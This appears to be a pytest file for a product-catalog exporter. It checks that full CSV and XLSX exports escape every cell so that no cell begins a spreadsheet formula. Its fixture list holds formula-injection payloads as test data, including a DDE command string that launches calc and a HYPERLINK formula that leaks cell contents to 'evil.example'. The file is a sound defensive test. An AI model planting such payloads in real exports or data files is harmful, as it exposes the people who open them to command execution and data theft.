"""No export hands a spreadsheet a formula: every cell of every file of a full export (CSV and
XLSX: products, product models and every structure kind), with hostile text in values,
labels and codes' labels, starts with something other than = + - @ tab or CR.

Channel feeds are covered in tests/publishing (generic CSV and Shopify escape every cell;
Google's TSV stays exactly as Google's specification reads, which has no escaping).
"""

import csv
from pathlib import Path

import openpyxl
import pytest

from folio.catalog.models import Attribute, Category, Family
from folio.imports import exporter
from folio.imports.readers import FORMULA_START
from tests.imports.conftest import counts, problems, run_import, write

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
]


@pytest.fixture
def hostile_catalog(catalog, tmp_path):
    """The fixture catalog with formulas where people type text: labels and values."""
    Attribute.objects.filter(code="name").update(labels={"en_US": HOSTILE[0]})
    Category.objects.update(labels={"en_US": HOSTILE[2]})
    Family.objects.update(labels={"en_US": HOSTILE[4]})
    rows = "".join(
        f"X{n};bottles;{text.replace(chr(9), ' ')};{text}\n" for n, text in enumerate(HOSTILE)
    )
    imported = run_import(write(tmp_path / "in.csv", "sku;family;name-en_US;brand\n" + rows))
    assert counts(imported)["created"] == len(HOSTILE), problems(imported)
    return catalog


def cells_of(folder: Path):
    for path in sorted(folder.rglob("*")):
        if path.suffix == ".csv":
            with open(path, encoding="utf-8", newline="") as f:
                for row in csv.reader(f, delimiter=";"):
                    for cell in row:
                        yield path.name, cell
        elif path.suffix == ".xlsx":
            book = openpyxl.load_workbook(path)
            for sheet in book.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                        if isinstance(cell.value, str):
                            yield path.name, cell.value


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_full_export_has_no_cell_a_spreadsheet_would_run(hostile_catalog, tmp_path, fmt):
    out = tmp_path / f"export-{fmt}"
    exporter.export(out, fmt=fmt)
    seen = list(cells_of(out))
    assert len({name for name, _ in seen}) > 3  # products, models and the structure files
    texts = {cell for _, cell in seen}
    assert "'" + HOSTILE[0] in texts  # the label, kept and escaped (an import reads it back)
    assert "'" + HOSTILE[2] in texts
    running = [(name, cell) for name, cell in seen if cell.startswith(FORMULA_START)]
    assert running == []
